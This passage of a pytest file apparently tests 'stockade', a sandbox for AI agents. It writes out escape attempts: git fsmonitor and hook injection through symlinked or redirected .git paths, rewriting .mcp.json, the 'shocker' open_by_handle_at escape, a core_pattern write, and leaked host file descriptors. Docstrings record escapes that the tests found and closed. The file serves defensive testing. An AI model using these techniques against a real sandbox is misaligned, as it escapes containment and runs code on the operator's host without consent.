    crossings = [e for e in probe.denials("mount") if e.detail.get("errno") == "EXDEV"]
    assert len(crossings) == 1, probe.transcript()


@pytest.mark.parametrize("rel", [".mcp.json", ".bashrc"])
def test_protected_file_that_is_a_symlink_into_the_workspace(host_dir: Path, rel: str) -> None:
    """A protected name that is a symlink to an ordinary file of the workspace
    (as a cloned repository may hold: ``.mcp.json -> config/mcp.json``). The
    operator's tools follow the link, so writing through it must be refused.

    Found by this test and closed: the plan skipped protected symlinks, and the
    agent rewrote what the operator's MCP client would load. A link is not a
    mount point, so the agent could also re-point it; stockade now refuses to
    start such a cell, naming the link, and nothing is written."""
    ws = _ws_root_owned(host_dir)
    (ws / "config").mkdir()
    real = ws / "config" / "real"
    real.write_text("original\n")
    (ws / rel).symlink_to("config/real")
    with (
        Cell(default_policy("escapes"), workspace=ws, environ={}) as cell,
        pytest.raises(CellError, match=f"{rel}.*symbolic link"),
    ):
        cell.run(["/bin/true"])
    assert real.read_text() == "original\n"
    # The control: as a regular file the same name is protected (read-only).
    (ws / rel).unlink()
    (ws / rel).write_text("original\n")
    with Cell(default_policy("escapes"), workspace=ws, environ={}) as cell:
        probe = run_probe(cell, Attempt("write", f"open({rel!r}, 'w').write('evil\\n')"))
    assert_refused(probe["write"], EROFS)
    assert (ws / rel).read_text() == "original\n"
    assert_mount_refusal(probe, probe["write"], ws / rel)


def test_git_dir_that_is_a_symlink_cannot_be_swapped(host_dir: Path) -> None:
    """A workspace whose ``.git`` is a symlink to a directory inside it (a
    layout some tools make). The link itself is no mount point, so the agent
    could replace it with a link to a directory of its own holding a hook.

    Found by this test and closed: the operator's next ``git commit`` ran an
    agent-written hook. Now such a workspace refuses to start a cell, naming
    the link, and no placeholder is made through it."""
    ws = _ws_root_owned(host_dir)
    (ws / "gitdir" / "hooks").mkdir(parents=True)
    (ws / "gitdir" / "HEAD").write_text("ref: refs/heads/main\n")
    (ws / ".git").symlink_to("gitdir")
    with (
        Cell(default_policy("escapes"), workspace=ws, environ={}) as cell,
        pytest.raises(CellError, match=r"\.git.*symbolic link"),
    ):
        cell.run(["/bin/true"])
    assert os.listdir(ws / "gitdir" / "hooks") == []
    assert not (ws / "gitdir" / "config").exists()


GIT_REDIRECTS = {
    # gitrepository-layout(5): config and hooks are read from $GIT_COMMON_DIR.
    "commondir": (".git/commondir", "../evilgit\n"),
}


@pytest.mark.parametrize("how", GIT_REDIRECTS)
def test_git_config_and_hooks_cannot_be_redirected(host_dir: Path, how: str) -> None:
    """.git/config and .git/hooks are protected so that the operator's next git
    command cannot run code the agent chose. Git also reads its config and
    hooks from elsewhere: ``.git/commondir`` names a "common directory" whose
    ``config`` and ``hooks`` replace the protected ones.

    ESCAPE (found by this test), for commondir: .git is a writable mount (only
    hooks and config are read-only), so the agent writes ``.git/commondir`` =
    ``../evilgit`` and ``evilgit/config`` with ``core.fsmonitor = <command>``;
    the operator's next ``git status`` in the workspace runs the command on the
    host (seen with git 2.39). A commondir that does not exist cannot be
    covered without making one (which git would then read), so its creation
    is the persistence report's: it names ``.git/commondir`` as created, and
    after ``revert`` the operator's real ``git status`` runs nothing of the
    agent's (the control: the repository's own HEAD stays writable)."""
    import subprocess

    from stockade.cell._revert import revert

    ws = _ws_root_owned(host_dir)
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "objects").mkdir()
    (ws / ".git" / "refs").mkdir()
    (ws / ".git" / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    pwned = host_dir / "pwned"
    rel, content = GIT_REDIRECTS[how]
    body = (
        "for d in ('evilgit/hooks', 'evilgit/objects', 'evilgit/refs'):\n"
        "    os.makedirs(d, exist_ok=True)\n"
        f"open('evilgit/config', 'w').write('[core]\\n\\tfsmonitor = \"touch {pwned}; false\"\\n')\n"
        f"os.makedirs(os.path.dirname({rel!r}), exist_ok=True)\n"
        f"open({rel!r}, 'w').write({content!r})"
    )
    records = host_dir / "records"
    with Cell(default_policy("escapes"), workspace=ws, environ={}, records=str(records)) as cell:
        probe = run_probe(
            cell,
            [
                Attempt("attempt", body),
                Attempt("control", "open('.git/HEAD', 'a').write('\\n'); return True"),
            ],
        )
    assert assert_works(probe["control"]) is True
    (report,) = [e for e in probe.events if e.kind == "cell.persistence"]
    assert {c["path"]: c["change"] for c in report.detail["changes"]}.get(str(ws / rel)) == "created", (
        f"ESCAPE unreported: {report.detail}"
    )
    revert(str(records), probe.result.cell_id)
    assert not (ws / rel).exists()
    subprocess.run(["git", "status"], cwd=ws, capture_output=True, check=False, timeout=30)
    assert not pwned.exists(), "ESCAPE: the operator's git status ran the agent's fsmonitor after revert"


def test_protection_placeholders_stay_inside_the_workspace(host_dir: Path) -> None:
    """Before a cell starts, stockade (as host root) creates the protected
    paths that do not exist yet. A workspace whose ``.git`` is a symlink out
    of it (left by an earlier run under another policy, or by a cloned tree)
    must not steer those creations: nothing may be created outside the
    workspace, even for a moment. Refusing to start the cell is acceptable.

    ESCAPE (found by this test): ``_create_placeholders`` follows the link and
    creates ``config`` (a file) and ``hooks`` (a directory) as root in the
    link's target, an arbitrary host directory, then removes them after the
    run if they are still empty."""
    ws = _ws_root_owned(host_dir)
    outside = host_dir / "outside"
    outside.mkdir()
    (ws / ".git").symlink_to("../outside")
    with CreationWatch(outside) as watch, Cell(default_policy("escapes"), workspace=ws, environ={}) as cell:
        try:
            cell.run(["/usr/bin/python3", "-c", "pass"])
        except CellError:
            pass  # refusing such a workspace is fine
        created = watch.created()
    assert created == [], f"ESCAPE: stockade created {created} in {outside}, outside the workspace {ws}"


# ------------------------------------------------------------------ kernel interfaces


@pytest.mark.host_view  # its control reads the host view's /etc/hostname (the image has its own)
def test_open_by_handle_at(cell: Cell) -> None:
    """The "shocker" escape: open a file by handle, around the mount view.
    name_to_handle_at and open_by_handle_at are refused by seccomp (EPERM),
    each recorded. Opening by path still works (the control)."""
    probe = run_probe(
        cell,
        [
            Attempt(
                "name_to_handle_at",
                "buf = ctypes.create_string_buffer(8 + 128); buf[0:4] = (128).to_bytes(4, 'little')\n"
                "mount_id = ctypes.c_int()\n"
                "sys_call('name_to_handle_at', -100, b'/etc/hostname', buf, ctypes.byref(mount_id), 0)",
            ),
            Attempt(
                "open_by_handle_at",
                # shocker's handle: an ext4 file handle (type 1) for inode 2, the root.
                "h = (8).to_bytes(4, 'little') + (1).to_bytes(4, 'little', signed=True)"
                " + (2).to_bytes(4, 'little') + bytes(4)\n"
                "fd = os.open('/etc', os.O_RDONLY)\n"
                "sys_call('open_by_handle_at', fd, ctypes.create_string_buffer(h, len(h)), os.O_RDONLY)",
            ),
            Attempt("control", "return open('/etc/hostname').read()"),
        ],
    )
    for name in ("name_to_handle_at", "open_by_handle_at"):
        assert_refused(probe[name], EPERM)
        assert_seccomp_denial(probe, name)
    assert assert_works(probe["control"]) == "stockade\n"


def test_dev_mem(cell: Cell) -> None:
    """/dev/mem is not in the cell's /dev (only null, zero, full, random,
    urandom, tty, pts, ptmx, shm): opening it is ENOENT, which no layer
    decides and the kernel does not record (and this host has no /dev/mem).
    Making it with mknod is refused by Landlock (fs.make_char on /dev) and
    recorded. /dev/null still works (the control)."""
    probe = run_probe(
        cell,
        [
            Attempt("open", "return open('/dev/mem', 'rb').read(16)"),
            Attempt("mknod", "os.mknod('/dev/mem', stat.S_IFCHR | 0o666, os.makedev(1, 1))"),
            Attempt("control", "open('/dev/null', 'w').write('x'); return os.path.exists('/dev/mem')"),
        ],
    )
    assert_refused(probe["open"], ENOENT)
    assert_refused(probe["mknod"], EACCES)
    assert_landlock_denial(probe, "/dev", "fs.make_char")
    assert assert_works(probe["control"]) is False


def test_proc_kcore(cell: Cell) -> None:
    """/proc/kcore (and the /dev/core link to it). On this kernel it does not
    exist at all (CONFIG_PROC_KCORE is off: ENOENT); where it exists it is
    0400 root, and host root is unmapped in the cell, so the discretionary
    check refuses (EACCES) before CAP_SYS_RAWIO is even asked. A read refused
    by file permissions is not recorded (only refused changes are: reading is
    what programs try all the time). /proc/self/status still reads (the
    control)."""
    probe = run_probe(
        cell,
        [
            Attempt("kcore", "return len(open('/proc/kcore', 'rb').read(64))"),
            Attempt("dev-core", "return len(open('/dev/core', 'rb').read(64))"),
            Attempt("control", "return open('/proc/self/status').read().startswith('Name:')"),
        ],
    )
    expected = (ENOENT,) if not os.path.exists("/proc/kcore") else (EACCES, EPERM)
    assert_refused(probe["kcore"], *expected)
    assert_refused(probe["dev-core"], *expected)
    assert assert_works(probe["control"]) is True


_SYS_KNOBS = ("/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/uevent_helper", "/sys/power/state")


def test_sys_writes(cell: Cell) -> None:
    """/sys is the cell's own sysfs (mounted from its network namespace),
    read-only by Landlock. Creating anything in it (a new cgroup, a file)
    meets Landlock's path hooks and is recorded. Opening an existing
    attribute to write it (``open(…, 'w')``: O_CREAT) is refused too, by
    Landlock (its create check on the directory, fs.make_reg) or by the
    discretionary check (root's files, root unmapped: EACCES, layer ``dac``),
    and is on record either way; the host's value is unchanged. Reading /sys
    still works (the control)."""
    knob = next(k for k in _SYS_KNOBS if os.path.exists(k))
    before = Path(knob).read_bytes()
    probe = run_probe(
        cell,
        [
            Attempt("write", f"open({knob!r}, 'w').write('never')"),
            Attempt("mkdir", "os.mkdir('/sys/kernel/escape')"),
            Attempt("control", f"return len(open({knob!r}).read()) > 0"),
        ],
    )
    assert_refused(probe["write"], EACCES)
    assert_refused(probe["mkdir"], EACCES)
    assert_landlock_denial(probe, "/sys/kernel", "fs.make_dir")
    assert assert_works(probe["control"]) is True
    assert Path(knob).read_bytes() == before
    recorded = probe.landlock(path=os.path.dirname(knob), blocker="fs.make_reg") + [
        e for e in probe.denials() if e.layer == "dac" and e.detail.get("path") == knob
    ]
    assert recorded, probe.transcript()


def test_proc_sys_kernel_core_pattern(cell: Cell) -> None:
    """core_pattern names a program the host kernel runs as root on a crash.
    /proc/sys is bind-mounted read-only in the cell, so the write fails with
    EROFS before any security hook (and, without that mount, the discretionary
    check would refuse: root's file, root unmapped). The EROFS is on record
    (an event of layer ``mount``, from the audit rules of
    ``cell/_audit_mount``). Evidence: the host's value is unchanged. Reading
    it works."""
    before = Path("/proc/sys/kernel/core_pattern").read_bytes()
    probe = run_probe(
        cell,
        [
            Attempt("write", "open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/evil')"),
            Attempt("control", "return open('/proc/sys/kernel/core_pattern').read()"),
        ],
    )
    assert_refused(probe["write"], EROFS, EACCES)
    assert assert_works(probe["control"]).encode() == before
    assert Path("/proc/sys/kernel/core_pattern").read_bytes() == before
    if probe["write"].errno == EROFS:
        assert_mount_refusal(probe, probe["write"], "/proc/sys/kernel/core_pattern")


def test_file_descriptors_inherited_from_the_launcher(cell: Cell, host_dir: Path) -> None:
    """Descriptors the launching process holds without O_CLOEXEC (a host file
    and a host directory, the classic fd-leak escape through openat) are
    closed before the cell's command starts: EBADF, no layer asked, nothing
    recorded. Evidence: the cell's /proc/self/fd holds only 0, 1 and 2."""
    secret = canary()
    (host_dir / "secret.txt").write_text(secret)
    file_fd = os.open(host_dir / "secret.txt", os.O_RDONLY)
    dir_fd = os.open(host_dir, os.O_RDONLY | os.O_DIRECTORY)
    try:
        os.set_inheritable(file_fd, True)
        os.set_inheritable(dir_fd, True)
        probe = run_probe(
            cell,
            [
                Attempt("read", f"return os.read({file_fd}, 100).decode()"),
                Attempt("openat", f"return open(os.open('secret.txt', os.O_RDONLY, dir_fd={dir_fd})).read()"),
                Attempt("fchdir", f"os.fchdir({dir_fd}); return os.listdir('.')"),
                Attempt("fds", "return sorted(int(n) for n in os.listdir('/proc/self/fd'))"),
                Attempt("control", "return os.write(1, b'')"),
            ],
        )
    finally:
        os.close(file_fd)
        os.close(dir_fd)
    for name in ("read", "openat", "fchdir"):
        assert_refused(probe[name], EBADF)
    assert not leaked(probe, secret)
    fds = assert_works(probe["fds"])
    assert fds[:3] == [0, 1, 2] and len(fds) == 4  # the fourth is the listing's own
    assert assert_works(probe["control"]) == 0


def test_the_workspace_stays_the_agents(cell: Cell) -> None:
    """The neighbour of every attempt above, on its own: the agent reads,
    writes, renames, links and deletes freely in its workspace, and the host
    sees the result. No refusal is recorded."""
    probe = run_probe(
        cell,
        [
            Attempt(
                "work",
                "os.makedirs('src/pkg'); open('src/pkg/a.py', 'w').write('x = 1\\n')\n"
                "os.rename('src/pkg/a.py', 'src/pkg/b.py'); os.symlink('pkg/b.py', 'src/link')\n"
                "os.chmod('src/pkg/b.py', 0o755); open('gone', 'w').close(); os.unlink('gone')\n"
                "return open('src/link').read()",
            ),
        ],
    )
    assert assert_works(probe["work"]) == "x = 1\n"
    assert Path(cell.workspace, "src/pkg/b.py").read_text() == "x = 1\n"
    assert not probe.denials()
